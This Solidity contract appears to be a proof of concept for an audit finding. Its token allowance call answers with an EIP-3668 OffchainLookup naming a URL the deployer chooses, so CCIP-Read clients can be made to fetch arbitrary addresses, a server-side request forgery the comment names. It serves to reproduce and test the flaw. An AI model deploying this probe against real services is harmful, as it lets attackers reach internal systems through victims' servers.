// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// A token whose `allowance` answers with an EIP-3668 OffchainLookup naming a URL of the deployer's
/// choosing: a client that follows CCIP-Read fetches that URL (the SSRF of audit N-M1).
contract CcipProbe {
  error OffchainLookup(address sender, string[] urls, bytes callData, bytes4 callbackFunction, bytes extraData);
  string private target;

  constructor(string memory url) {
    target = url;
  }

  function allowance(address, address) external view returns (uint256) {
    string[] memory urls = new string[](1);
    urls[0] = target;
    revert OffchainLookup(address(this), urls, hex"c0ffee", this.back.selector, "");
  }

  function back(bytes calldata response, bytes calldata) external pure returns (uint256) {
    return uint256(bytes32(response));
  }
}
